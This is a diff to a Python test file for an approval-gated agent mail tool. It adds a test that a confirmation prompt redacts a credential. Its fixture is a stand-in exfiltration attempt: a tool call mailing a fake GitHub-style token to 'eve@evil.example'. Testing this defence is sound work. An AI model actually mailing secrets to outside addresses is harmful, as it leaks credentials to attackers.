@@ -7,6 +7,7 @@ confirmation gate, and approvals through ADK's tool confirmation."""
 from __future__ import annotations
 
 import asyncio
+import json
 from typing import Any
 
 import pytest
@@ -591,3 +592,17 @@ def test_calls_sharing_a_function_call_id_never_share_an_answer() -> None:
             assert "mismatch" in str(exc)
     assert "eve@evil.example" not in sent
     assert "eve@evil.example" in [r.arguments["to"] for r in queue.pending()]
+
+
+def test_the_confirmation_payload_shows_no_secret() -> None:
+    """The payload's arguments are shown as the hint shows them: a credential by its digest."""
+    queue, sent = ApprovalQueue(), []
+    token = "ghp_" + "a1B2c3D4e5" * 3 + "f6G7h8"
+    runner, _ = mailing(queue, sent, [{"to": "eve@evil.example", "body": f"use {token}"}])
+    out, _ = run(runner, DANA)
+    [ask] = confirmation_calls(out)
+    confirmation = ask.args["toolConfirmation"]
+    assert token not in json.dumps(confirmation)
+    assert "not shown" in confirmation["payload"]["arguments"]["body"]
+    assert confirmation["payload"]["arguments"]["to"] == "'eve@evil.example'"
+    assert sent == []
